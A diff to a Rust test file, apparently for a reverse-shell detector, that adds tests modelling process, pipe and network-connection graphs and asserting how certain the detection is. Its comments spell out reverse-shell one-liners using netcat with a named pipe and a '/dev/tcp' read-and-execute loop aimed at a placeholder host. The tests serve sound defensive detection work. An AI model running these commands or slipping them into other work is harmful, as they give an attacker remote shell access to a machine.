@@ -129,12 +129,39 @@ fn filters_in_between() {
 }
 
 #[test]
+fn filters_with_a_fifo_of_their_own() {
+    // cat f | sh | tee log | nc A 4444 >f
+    let fifo = Object::Pipe(30, 5);
+    let world = World::new()
+        .with(OTHER, &[(0, pipe(9), "r"), (1, pipe(1), "w"), (3, fifo, "r")])
+        .with(SHELL, &[(0, pipe(1), "r"), (1, pipe(2), "w")])
+        .with(OTHER, &[(0, pipe(2), "r"), (1, pipe(3), "w")])
+        .with(OTHER, &[(0, pipe(3), "r"), (1, fifo, "w"), (3, CONNECTION, "rw")]);
+    assert_eq!(world.certainty(), SURE);
+}
+
+#[test]
 fn a_loop_that_reads_from_the_connection_and_writes_to_a_descriptor_of_it() {
     // exec 5<>/dev/tcp/A/4444; cat <&5 | while read line; do $line >&5; done
     let world = World::new()
         .with(SHELL, &[(0, pipe(1), "r"), (5, CONNECTION, "rw")])
         .with(OTHER, &[(0, CONNECTION, "rw"), (1, pipe(1), "w")]);
-    assert_eq!(world.certainty(), SURE);
+    // Or: exec 5<>/dev/tcp/A/80; echo GET / >&5; cat <&5 | while read line; do …; done
+    assert_eq!(world.certainty(), BY_FLOW);
+    // exec 5<>/dev/tcp/A/80; echo GET / >&5; read line <&5
+    let client = World::new().with(SHELL, &[(0, CONNECTION, "rw"), (5, CONNECTION, "rw")]);
+    assert_eq!(client.certainty(), None);
+}
+
+#[test]
+fn a_pipeline_that_inherits_a_connection() {
+    // exec 9<>/dev/tcp/A/80; sleep 1 | while read line; do …; done | sort
+    let inherited = (9, CONNECTION, "rw");
+    let world = World::new()
+        .with(OTHER, &[(1, pipe(1), "w"), inherited])
+        .with(SHELL, &[(0, pipe(1), "r"), (1, pipe(2), "w"), inherited])
+        .with(OTHER, &[(0, pipe(2), "r"), inherited]);
+    assert_eq!(world.certainty(), BY_FLOW);
 }
 
 #[test]
